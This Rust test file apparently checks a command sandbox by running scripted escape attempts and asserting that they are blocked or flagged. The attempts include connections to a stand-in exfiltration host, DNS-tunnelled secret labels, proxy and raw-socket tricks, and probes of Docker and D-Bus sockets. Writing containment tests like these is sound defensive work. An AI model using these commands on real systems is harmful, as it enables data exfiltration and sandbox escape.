//! Attacks that try to reach something: the network, a server on this machine, or a process that listens in the
//! workspace.

use std::fs;
use std::io::{ErrorKind, Read as _};
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::fs::OpenOptionsExt as _;
use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener};

use crate::attacks::{Attack, ExpectedOutcome, RAN, as_user, broken, play, told, world};
use crate::world::ToolTestWorld;

/// Python with helper functions for these attacks.
macro_rules! python {
    ($code:literal) => {
        concat!(
            "python3 - <<'END'\nimport os, socket, sys\ndef to(family, kind, address, sends=None):\n  try:\n    s = socket.socket(family, kind); s.settimeout(2)\n",
            "    s.sendto(sends, address) if sends else s.connect(address)\n    print('reached')\n  except OSError as e: print('not reached', e)\n",
            "I4, I6, UN, ST, DG = socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.SOCK_STREAM, socket.SOCK_DGRAM\n",
            $code,
            "\nEND"
        )
    };
}

// req: E5
#[test]
fn wanting_the_network() {
    const ATTACKS: &[Attack] = &[
        Attack {
            name: "by name",
            script: python!("to(I4, ST, ('exfiltrate.example', 443))"),
            expect: ExpectedOutcome::Asked("wanted exfiltrate.example:443"),
        },
        Attack {
            name: "by an address",
            script: python!("to(I4, ST, ('192.0.2.1', 80))"),
            expect: ExpectedOutcome::Asked("wanted"),
        },
        Attack {
            name: "by an address of six",
            script: python!("to(I6, ST, ('2001:db8::1', 80))"),
            expect: ExpectedOutcome::Asked("wanted"),
        },
        Attack {
            name: "by a datagram",
            script: python!("to(I4, DG, ('192.0.2.1', 53), b'x')"),
            expect: ExpectedOutcome::Asked("wanted"),
        },
        Attack {
            name: "by a datagram of six",
            script: python!("to(I6, DG, ('2001:db8::1', 53), b'x')"),
            expect: ExpectedOutcome::Asked("wanted"),
        },
        Attack {
            name: "by looking a name up and nothing else",
            script: python!(
                "try: socket.getaddrinfo('c2VjcmV0.exfiltrate.example', 0)\nexcept OSError: pass"
            ),
            expect: ExpectedOutcome::Asked("wanted c2vjcmv0.exfiltrate.example:0"),
        },
        Attack {
            name: "by asking a name server itself",
            script: python!(
                "q = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\0\\0\\x10\\0\\x01'\nto(I4, DG, ('8.8.8.8', 53), q)"
            ),
            expect: ExpectedOutcome::Asked("wanted"),
        },
        Attack {
            name: "by a kind of question that nobody asks",
            script: python!(
                "q = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\0\\0\\x10\\0\\x01'\nns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\nto(I4, DG, (ns[0], 53), q)\nimport time; time.sleep(0.3)"
            ),
            expect: ExpectedOutcome::Asked("wanted"),
        },
        Attack {
            name: "by the proxy that the environment names",
            script: python!(
                "import urllib.request\ntry: urllib.request.urlopen('http://exfiltrate.example/?secret', timeout=3)\nexcept OSError as e: print(e)"
            ),
            expect: ExpectedOutcome::Asked("wanted exfiltrate.example:80"),
        },
        Attack {
            name: "by a proxy of its own",
            script: "http_proxy=http://192.0.2.7:3128 curl -sm 2 http://exfiltrate.example/ || :",
            expect: ExpectedOutcome::Asked("wanted"),
        },
        Attack {
            name: "by ping",
            script: python!(
                "for f, p in [(I4, 1), (I6, 58)]:\n  try: socket.socket(f, DG, p); print('pinged')\n  except OSError: print('no socket')"
            ),
            expect: ExpectedOutcome::Nothing("no socket\nno socket"),
        },
        Attack {
            name: "by raw packets",
            script: python!(
                "for f, k, p in [(I4, 3, 255), (17, 3, 3), (16, 3, 0), (40, 1, 0), (38, 5, 0), (31, 3, 1)]:\n  try: socket.socket(f, k, p); print('raw', f)\n  except OSError: pass"
            ),
            expect: ExpectedOutcome::Nothing(RAN),
        },
        Attack {
            name: "by an interface of its own",
            script: "ip link add x type dummy 2>/dev/null && echo made; ip route add default dev lo 2>/dev/null && echo routed; unshare -rn ip link 2>/dev/null; python3 -c \"open('/dev/net/tun', 'r+b')\" 2>/dev/null && echo tun; :",
            expect: ExpectedOutcome::Nothing(RAN),
        },
    ];
    as_user("attacks_network::wanting_the_network", async {
        play(ATTACKS, |_| {}).await;
    });
}

/// Listeners outside, of every kind that a command could find.
struct OutsideListeners {
    tcp: TcpListener,
    udp: UdpSocket,
    path: UnixListener,
    scratch: UnixListener,
    outside: UnixListener,
    datagrams: UnixDatagram,
    named: UnixListener,
    fifo: fs::File,
}

impl OutsideListeners {
    fn open(world: &ToolTestWorld) -> Self {
        let name = format!("byleave-attack-{}", std::process::id());
        let abstracted = SocketAddr::from_abstract_name(&name).unwrap();
        let fifo = world.at("fifo");
        rustix::fs::mknodat(rustix::fs::CWD, &fifo, rustix::fs::FileType::Fifo, rustix::fs::Mode::RWXU, 0)
            .unwrap();
        let ears = Self {
            tcp: TcpListener::bind("127.0.0.1:0").unwrap(),
            udp: UdpSocket::bind("127.0.0.1:0").unwrap(),
            path: UnixListener::bind(world.at("sock")).unwrap(),
            scratch: UnixListener::bind(world.at("target/sock")).unwrap(),
            outside: UnixListener::bind(world.at("../../outside/sock")).unwrap(),
            datagrams: UnixDatagram::bind(world.at("src/datagrams")).unwrap(),
            named: UnixListener::bind_addr(&abstracted).unwrap(),
            fifo: fs::OpenOptions::new().read(true).custom_flags(0o4000).open(fifo).unwrap(),
        };
        ears.tcp.set_nonblocking(true).unwrap();
        ears.udp.set_nonblocking(true).unwrap();
        ears.datagrams.set_nonblocking(true).unwrap();
        for one in [&ears.path, &ears.scratch, &ears.outside, &ears.named] {
            one.set_nonblocking(true).unwrap();
        }
        let ports =
            [ears.tcp.local_addr().unwrap(), ears.udp.local_addr().unwrap()].map(|at| at.port().to_string());
        world.write("where/ports", &ports.join(" "));
        world.write("where/name", &name);
        ears
    }

    /// Returns the listeners that were reached.
    fn heard(mut self) -> Vec<&'static str> {
        let none = |kind: ErrorKind| kind == ErrorKind::WouldBlock;
        let mut space = [0; 64];
        let accepted = |one: &UnixListener| !one.accept().is_err_and(|error| none(error.kind()));
        let all = [
            ("tcp", !self.tcp.accept().is_err_and(|error| none(error.kind()))),
            ("udp", !self.udp.recv(&mut space).is_err_and(|error| none(error.kind()))),
            ("path", accepted(&self.path)),
            ("scratch", accepted(&self.scratch)),
            ("outside", accepted(&self.outside)),
            ("datagrams", !self.datagrams.recv(&mut space).is_err_and(|error| none(error.kind()))),
            ("abstract", accepted(&self.named)),
            // A pipe without a writer reads as the end of file.
            ("fifo", !matches!(self.fifo.read(&mut space), Ok(0))),
        ];
        all.iter().filter(|(_, heard)| *heard).map(|(name, _)| *name).collect()
    }
}

// req: E5
#[test]
fn talking_to_who_listens() {
    const ATTACKS: &[Attack] = &[
        Attack {
            name: "loopback",
            script: python!("t, u = map(int, open('where/ports').read().split())\nto(I4, ST, ('127.0.0.1', t))\nto(I6, ST, ('::ffff:127.0.0.1', t))\nto(I4, ST, ('0.0.0.0', t))\nto(I4, DG, ('127.0.0.1', u), b'x')"),
            expect: ExpectedOutcome::Nothing("not reached"),
        },
        Attack { name: "an abstract socket", script: python!("to(UN, ST, '\\0' + open('where/name').read())"), expect: ExpectedOutcome::Nothing("not reached") },
        Attack { name: "a socket in the workspace", script: python!("to(UN, ST, 'sock')"), expect: ExpectedOutcome::Nothing("not reached") },
        Attack { name: "a socket in scratch", script: python!("to(UN, ST, 'target/sock')"), expect: ExpectedOutcome::Nothing("not reached") },
        Attack { name: "a datagram to the workspace", script: python!("to(UN, DG, 'src/datagrams', b'x')"), expect: ExpectedOutcome::Nothing("not reached") },
        Attack {
            name: "a socket by another name",
            script: "ln sock target/s1; ln target/sock target/s2; ln -s ../sock target/s4; cp -al src target/s5\n
python3 - <<'END'
import socket
for path in ['target/s1', 'target/s2', 'target/s4', '/proc/self/cwd/sock', '/proc/self/root' + __import__('os').getcwd() + '/sock']:
  try: socket.socket(socket.AF_UNIX).connect(path); print('reached')
  except OSError: print('not reached')
for path in ['src/../src/datagrams', 'target/s5/datagrams']:
  try: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', path); print('reached')
  except OSError: print('not reached')
END",
            expect: ExpectedOutcome::Nothing("not reached"),
        },
        Attack {
            name: "a socket outside",
            script: python!("to(UN, ST, open('where/outside').read() + '/sock')\nos.chdir('/'); [to(UN, ST, p) for p in ['/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/notify'] if os.path.exists(p)]"),
            expect: ExpectedOutcome::Nothing("not reached"),
        },
        Attack {
            name: "a pipe in the workspace",
            script: python!("try:\n  fd = os.open('fifo', os.O_WRONLY | os.O_NONBLOCK); os.write(fd, b'x'); print('reached')\nexcept OSError as e: print('not reached', e)\ntry:\n  fd = os.open('fifo', os.O_RDWR | os.O_NONBLOCK); os.write(fd, b'x'); print('wrote')\nexcept OSError as e: print('not reached', e)"),
            expect: ExpectedOutcome::Nothing("not reached"),
        },
    ];
    as_user("attacks_network::talking_to_who_listens", async {
        let mut wrong = Vec::new();
        for attack in ATTACKS {
            let world = world();
            let ears = OutsideListeners::open(&world);
            let broken = broken(&world, attack).await;
            let heard = ears.heard();
            println!(
                "{} {}",
                if broken.is_some() || !heard.is_empty() { "BROKEN" } else { "held  " },
                attack.name
            );
            wrong.extend(broken);
            wrong.extend((!heard.is_empty()).then(|| format!("{}: reached {heard:?}", attack.name)));
        }
        assert!(wrong.is_empty(), "{} attacks:\n{}", wrong.len(), wrong.join("\n\n"));
    });
}

// req: E5
#[test]
fn a_server_that_an_earlier_command_left() {
    as_user("attacks_network::a_server_that_an_earlier_command_left", async {
        let world = world();
        // It listens everywhere it can and keeps running. The next command looks for it.
        let serve = "python3 - <<'END'
import os, socket
t = socket.socket(); t.bind(('127.0.0.1', 45871)); t.listen()
a = socket.socket(socket.AF_UNIX); a.bind('\\0left'); a.listen()
p = socket.socket(socket.AF_UNIX); p.bind('target/left'); p.listen()
q = socket.socket(socket.AF_UNIX); q.bind('/tmp/left'); q.listen()
if os.fork(): os._exit(0)
os.setsid(); [os.close(fd) for fd in range(3)]
while True: t.accept()[0].sendall(b'here')
END
[ -S target/left ]";
        let left = broken(
            &world,
            &Attack { name: "stays", script: serve, expect: ExpectedOutcome::Asked("left running") },
        )
        .await;
        let look = python!(
            "to(I4, ST, ('127.0.0.1', 45871))\nto(UN, ST, '\\0left')\nto(UN, ST, 'target/left')\nto(UN, ST, '/tmp/left')\nprint(os.path.exists('target/left'), os.path.exists('/tmp/left'))"
        );
        let found = broken(
            &world,
            &Attack { name: "looks", script: look, expect: ExpectedOutcome::Nothing("False False") },
        )
        .await;
        assert_eq!((left, found), (None, None));
        let played = world.bash("python3 go.py", &[]).await;
        assert_eq!(played.text().matches("not reached").count(), 4, "{}", told(&played));
    });
}

// req: E5
#[test]
fn a_socket_that_comes_while_it_waits() {
    as_user("attacks_network::a_socket_that_comes_while_it_waits", async {
        for above in ["src", "target"] {
            let world = world();
            let at = world.at(above).join("late");
            let coming = crate::attacks_secrets::when_it_waits(world.at("../../state"), move || {
                UnixListener::bind(at).unwrap()
            });
            world.write(
                "w.py",
                &format!("import os, socket, time\nopen('target/i-wait', 'w')\nfor _ in range(200):\n  if 'late' not in os.listdir('{above}'): time.sleep(0.01); continue\n  try: socket.socket(socket.AF_UNIX).connect('{above}/late'); print('reached')\n  except OSError as e: print(e)\n  break\n"),
            );
            let played = world.bash("python3 w.py", &[]).await;
            let listener = coming.join().unwrap().expect("it did not wait");
            listener.set_nonblocking(true).unwrap();
            let heard = !listener.accept().is_err_and(|error| error.kind() == ErrorKind::WouldBlock);
            assert!(!heard, "{above}: {}", told(&played));
        }
    });
}
